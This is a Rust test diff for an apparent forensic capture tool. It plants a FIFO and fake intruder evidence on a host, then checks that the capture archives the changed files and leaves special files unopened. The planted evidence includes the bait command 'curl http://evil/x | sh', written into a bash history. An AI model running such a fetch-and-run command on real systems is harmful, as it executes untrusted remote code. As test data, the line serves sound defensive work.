@@ -292,7 +292,7 @@ fn a_volumes_mount_point_and_deckhands_own_files_are_no_evidence() {
     fleet.write(&VOLUME.replace("{dir}", &dir));
     fleet.apply();
     let b_ssh = fleet.n("b-ssh");
-    sh(&b_ssh, "echo 'curl http://evil/x | sh' >> /home/admin/.bash_history; echo core > /var/lib/systemd/coredump/core.1");
+    sh(&b_ssh, "echo 'curl http://evil/x | sh' >> /home/admin/.bash_history; echo core > /var/lib/systemd/coredump/core.1; mkfifo /tmp/pipe");
     let run = fleet.deckhand(&["destroy", "--auto-approve", "--no-color"]);
     assert_eq!(run.code, 0, "{run:?}");
     let a_ssh = fleet.n("a-ssh");
@@ -309,6 +309,21 @@ fn a_volumes_mount_point_and_deckhands_own_files_are_no_evidence() {
         "changed by the intruder: {listed}"
     );
     assert!(!listed.contains("coredump"), "a mount point: {listed}");
+    assert!(listed.contains("/tmp/pipe"), "a FIFO is listed: {listed}");
+    let left_out = sidecar(&tars[0])["left_out"].to_string();
+    assert!(
+        left_out.contains("/tmp/pipe: a special file: never opened"),
+        "{left_out}"
+    );
+    let mut archive = tar::Archive::new(std::fs::File::open(&tars[0]).unwrap());
+    let history = archive
+        .entries()
+        .unwrap()
+        .map(|e| e.unwrap())
+        .find(|e| e.path().unwrap().ends_with("home/admin/.bash_history"));
+    let mut bytes = Vec::new();
+    std::io::Read::read_to_end(&mut history.expect("the changed bait"), &mut bytes).unwrap();
+    assert_eq!(bytes, b"ls\ncurl http://evil/x | sh\n");
 }
 
 /// A capture never takes the filesystem below its free floor (made 100 %
